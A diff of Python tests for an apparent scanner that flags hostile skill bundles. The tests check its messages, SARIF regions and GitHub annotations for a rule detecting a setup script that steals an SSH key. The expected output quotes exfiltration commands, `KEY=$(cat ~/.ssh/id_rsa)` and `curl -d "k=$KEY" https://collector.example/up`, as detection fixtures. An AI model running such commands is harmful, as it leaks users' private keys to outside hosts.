@@ -91,8 +91,9 @@ def test_messages_show_what_is_hidden(run: Run, tmp_path: Path) -> None:
         "invisible character(s) (bidirectional control): U+202E RIGHT-TO-LEFT OVERRIDE"
     ) in result.stdout
     assert (
-        ".dsh/skills/bundle-script/scripts/setup.sh:2:11: SD1013 error "
-        "reads ~/.ssh/id_rsa and sends it out: `KEY=$(cat ~/.ssh/id_rsa) ... curl -d`"
+        ".dsh/skills/bundle-script/scripts/setup.sh:4:1: SD1013 error "
+        "reads ~/.ssh/id_rsa (line 2) and sends it to `collector.example`: "
+        '`curl -d "k=$KEY" https://collector.example/up`'
     ) in result.stdout
 
 
@@ -121,7 +122,8 @@ def test_sarif_locates_bundle_findings_in_their_files(run: Run, tmp_path: Path) 
     assert stolen["level"] == "error"
     where = stolen["locations"][0]["physicalLocation"]
     assert where["artifactLocation"]["uri"] == ".dsh/skills/bundle-script/scripts/setup.sh"
-    assert where["region"] == {"startLine": 2, "startColumn": 11, "endLine": 2, "endColumn": 24}
+    # where it leaves (the message names line 2, where the key is read)
+    assert where["region"] == {"startLine": 4, "startColumn": 1, "endLine": 4, "endColumn": 46}
     summary = next(r for r in results if r["ruleId"] == "SD1035")
     assert summary["level"] == "note"
     assert summary["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
@@ -135,7 +137,7 @@ def test_sarif_locates_bundle_findings_in_their_files(run: Run, tmp_path: Path) 
         for r in summary["relatedLocations"]
     ] == [
         (".dsh/skills/bundle-script/config/creds.ini", 1),
-        (".dsh/skills/bundle-script/scripts/setup.sh", 2),
+        (".dsh/skills/bundle-script/scripts/setup.sh", 4),
     ]
     rules = {r["id"] for r in sarif["runs"][0]["tool"]["driver"]["rules"]}
     assert {"SD1013", "SD1015", "SD1035"} <= rules
@@ -148,9 +150,9 @@ def test_github_annotations_name_the_bundle_file(run: Run, tmp_path: Path) -> No
     result = run("check", "--select", "SD1013", "--format", "github", ".")
 
     assert result.stdout == (
-        "::error file=.dsh/skills/bundle-script/scripts/setup.sh,line=2,col=11,endLine=2,"
-        "endColumn=24,title=SD1013::reads ~/.ssh/id_rsa and sends it out: "
-        "`KEY=$(cat ~/.ssh/id_rsa) ... curl -d`\n"
+        "::error file=.dsh/skills/bundle-script/scripts/setup.sh,line=4,col=1,endLine=4,"
+        "endColumn=46,title=SD1013::reads ~/.ssh/id_rsa (line 2) and sends it to "
+        '`collector.example`: `curl -d "k=$KEY" https://collector.example/up`\n'
     )
 
 
